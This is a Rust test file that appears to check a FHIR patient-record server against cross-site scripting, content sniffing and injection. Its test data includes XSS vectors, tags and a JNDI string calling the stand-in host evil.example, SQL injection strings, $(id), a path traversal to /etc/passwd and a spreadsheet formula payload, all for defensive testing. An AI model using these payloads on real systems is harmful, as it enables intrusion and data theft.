//! What is stored cannot be made to run in the browser of whoever reads it.

use base64::{Engine as _, engine::general_purpose::STANDARD};

use crate::{
    server::DATABASES,
    world::{Ask, World},
};

/// What narratives must not have.
const ACTIVE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate onbegin=\"alert(1)\"/></svg>",
    "<math><annotation-xml encoding=\"text/html\"><p>x</p></annotation-xml></math>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<form action=\"http://evil.example\"><input name=\"p\"/></form>",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<object data=\"http://evil.example\"></object>",
    "<img src=\"http://evil.example/pixel.png\"/>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p onclick=\"alert(1)\">x</p>",
    "<link rel=\"stylesheet\" href=\"http://evil.example\"/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"/>",
    "<base href=\"http://evil.example\"/>",
    "<noscript><p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p></noscript>",
];

#[tokio::test(flavor = "multi_thread")]
async fn narratives_have_nothing_that_runs() {
    let world = World::new(DATABASES[0]).await;
    for active in ACTIVE {
        let div = format!("<div xmlns=\"http://www.w3.org/1999/xhtml\">{active}</div>");
        let body = serde_json::json!({"resourceType": "Patient", "text": {"status": "generated", "div": div}});
        let answer = world
            .ask(
                &world.root,
                &Ask::new("POST Patient").fhir(&body.to_string()),
            )
            .await;
        let is_stripped = answer.status == 201 && answer.json()["text"]["div"] != div;
        assert!(
            answer.status == 422 || is_stripped,
            "IN-01 {active}: {}",
            answer.status
        );
    }
}

/// Whatever is in it: an answer is data, not a page.
#[tokio::test(flavor = "multi_thread")]
async fn no_answer_is_a_page() {
    let world = World::new(DATABASES[0]).await;
    let markup = "\"><img src=x onerror=alert(1)>";
    let body = serde_json::json!({"resourceType": "Patient", "id": "markup", "name": [{"family": markup}],
        "identifier": [{"system": "javascript:alert(1)", "value": markup}]});
    let put = Ask::new("PUT Patient/markup").fhir(&body.to_string());
    world.ask(&world.root, &put).await;
    for line in [
        "GET Patient/markup",
        "GET Patient/markup/_history",
        "GET Patient/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "GET Patient?%3Cscript%3E=%3Cscript%3E",
        "GET %3Cscript%3E/1",
        "GET /%3Cscript%3E",
        "GET /auth/%3Cscript%3E",
        "GET Patient?family=%22%3E%3Cimg",
    ] {
        let ask = Ask::new(line).header(("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"));
        let answer = world.ask(&world.root, &ask).await;
        let kind = answer.header("content-type").unwrap_or_default().to_owned();
        assert!(
            !kind.contains("html") || !answer.text().contains("<script>"),
            "IN-02 {line}: {kind}"
        );
        assert!(
            kind.contains("json") || line.contains("/auth/"),
            "IN-02 {line}: {kind}"
        );
        assert_eq!(
            answer.header("x-content-type-options"),
            Some("nosniff"),
            "IN-02 {line}"
        );
        let policy = answer.header("content-security-policy").expect(line);
        assert!(
            policy.contains("default-src 'none'"),
            "IN-02 {line}: {policy}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_binary_is_never_a_page() {
    let world = World::new(DATABASES[0]).await;
    for kind in [
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "application/javascript",
        "text/html;charset=utf-7",
        "multipart/x-mixed-replace",
    ] {
        let data =
            STANDARD.encode("<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>");
        let body = serde_json::json!({"resourceType": "Binary", "id": "page", "contentType": kind, "data": data, "securityContext": {"reference": "Patient/pa"}});
        let put = world
            .ask(
                &world.root,
                &Ask::new("PUT Binary/page").fhir(&body.to_string()),
            )
            .await;
        assert!(put.status < 300, "{kind}: {}", put.text());
        for accept in ["text/html,*/*", "*/*", kind] {
            let answer = world
                .ask(
                    &world.root,
                    &Ask::new("GET Binary/page").header(("Accept", accept)),
                )
                .await;
            let what = format!("IN-03 {kind}, asked for {accept}");
            if answer
                .header("content-type")
                .is_some_and(|kind| kind.contains("json"))
            {
                continue;
            }
            assert_eq!(answer.status, 200, "{what}");
            assert!(
                answer
                    .header("content-disposition")
                    .is_some_and(|value| value.starts_with("attachment")),
                "{what}"
            );
            assert!(
                answer
                    .header("content-security-policy")
                    .is_some_and(|value| value.contains("sandbox")),
                "{what}"
            );
            assert_eq!(
                answer.header("x-content-type-options"),
                Some("nosniff"),
                "{what}"
            );
        }
    }
}

/// What is data to one program is code to another: it stays data.
#[tokio::test(flavor = "multi_thread")]
async fn what_looks_like_code_is_stored_and_found_as_it_is() {
    for database in DATABASES {
        let world = World::new(database).await;
        for text in [
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "' OR 1=1--",
            "$(id)",
            "../../etc/passwd",
            "%00",
            "\\\\evil\\share",
            "=cmd|' /C calc'!A0",
            "a%' UNION SELECT * FROM record--",
        ] {
            let body = serde_json::json!({"resourceType": "Patient", "id": "code", "name": [{"family": text}]});
            let put = world
                .ask(
                    &world.root,
                    &Ask::new("PUT Patient/code").fhir(&body.to_string()),
                )
                .await;
            assert!(put.status < 300, "IN-07 {text}: {}", put.text());
            let read = world.line(&world.root, "GET Patient/code").await.json();
            assert_eq!(read["name"][0]["family"], text, "IN-07");
            let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
            let encoded = encoded
                .replace("%2C", "%5C%2C")
                .replace("%24", "%5C%24")
                .replace("%7C", "%5C%7C")
                .replace("%5C%5C", "%5C%5C%5C%5C");
            let found = world
                .line(
                    &world.root,
                    &format!("GET Patient?family:exact={encoded}&_summary=count"),
                )
                .await;
            assert!(found.status < 500, "IN-07 {text}");
            let token = world.patient("patient/*.rs").await;
            for param in [
                "family",
                "_id",
                "identifier",
                "_content",
                "birthdate",
                "_sort",
                "_filter",
                "_page",
                "organization",
                "_tag",
                "_lastUpdated",
            ] {
                let answer = world
                    .line(&token, &format!("GET Patient?{param}={encoded}"))
                    .await;
                assert!(
                    answer.status < 500,
                    "IN-04 {param}={text}: {}",
                    answer.text()
                );
                assert!(
                    crate::leaks::check(&answer, param).is_none(),
                    "IN-04 {param}={text}"
                );
            }
        }
    }
}
